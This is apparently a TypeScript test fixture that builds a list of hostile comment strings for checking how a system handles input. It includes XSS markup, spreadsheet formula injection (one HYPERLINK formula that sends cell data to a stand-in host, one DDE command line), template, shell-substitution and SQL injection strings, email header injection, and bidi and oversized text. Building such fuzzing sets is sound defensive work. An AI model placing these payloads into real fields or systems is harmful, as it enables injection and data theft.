/** Comments that try to be more than text. Invented, or tricks everybody knows. */
export function hostileTexts(): string[] {
  const tags = [
    'script',
    'img',
    'svg',
    'iframe',
    'style',
    'a',
    'form',
    'base',
    'meta',
    'link',
    'object',
    'math',
  ];
  const markup = tags.flatMap((tag) => [
    `<${tag} src=x onerror=alert(1)>`,
    `</td></tr></table><${tag} href="javascript:alert(1)">bấm đây</${tag}>`,
    `"><${tag}/onload=alert(1)//`,
    `<${tag.toUpperCase()}\n STYLE="position:fixed;top:0;left:0;width:999px">`,
  ]);
  const formulas = ['=', '+', '-', '@', '\t=', '\r='].flatMap((start) => [
    `${start}HYPERLINK("http://xau.example/?"&A1,"bấm")`,
    `${start}cmd|' /C calc'!A0`,
    `${start}1+1`,
    `＝1+1 ${start}`,
  ]);
  const templates = [
    '{{7*7}}',
    '${7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '{% for x in y %}',
    '%s%s%n',
    '$(id)',
    '`id`',
    '[[x|y]]',
    '*đậm* _nghiêng_ ~gạch~',
  ];
  const bidi = ['\u202E', '\u202D', '\u2066', '\u2067', '\u2068', '\u200F', '\u061C', '\u202A'].flatMap(
    (mark) => [
      `an toàn ${mark}moc.uax//:ptth`,
      `${mark}${mark}${mark}đảo chữ`,
      `trước ${mark} sau \u05D0\u05D1 \u0645\u0631\u062D\u0628\u0627`,
    ],
  );
  const zalgo = Array.from(
    { length: 36 },
    (_, index) => `z${'\u0300\u0316\u0334\u0489'.repeat(index * 8 + 5)}algo`,
  );
  const controls = Array.from(
    { length: 32 },
    (_, code) => `a${String.fromCharCode(code)}b${String.fromCharCode(code + 128)}c`,
  );
  const headers = [
    'x\r\nBcc: ai-do@xau.example',
    'x\nContent-Type: text/html\n\n<b>x</b>',
    '\r\n.\r\nMAIL FROM:<a@b.c>',
    '=?utf-8?B?PHNjcmlwdD4=?=',
    'Subject: y\r\n\r\n',
    '--boundary\nContent-Disposition: attachment',
  ];
  const long = [
    'a'.repeat(100_000),
    '<b>'.repeat(33_000),
    '0912345612 '.repeat(9_000),
    `${'dài '.repeat(24_000)}làm tại nhà`,
    '\n'.repeat(5_000),
    '😀'.repeat(30_000),
  ];
  const odd = [
    '\u{FEFF}\u200B\u200D\u2060vô hình',
    '👨‍👩‍👧‍👦👍🏽🏴‍☠️',
    '&lt;script&gt;&amp;amp;&#x27;',
    '<!--',
    '-->',
    ']]>',
    '<![CDATA[x]]>',
    '<?php x ?>',
    '\\u003cscript\\u003e',
    '\u2028alert(1)\u2029',
    "'; drop table cases; --",
    '"; }] null',
    '\\"\\',
    'x'.repeat(3_000),
    'data:text/html,<script>',
    'javascript:alert(1)',
  ];
  return [...markup, ...formulas, ...templates, ...bidi, ...zalgo, ...controls, ...headers, ...long, ...odd];
}
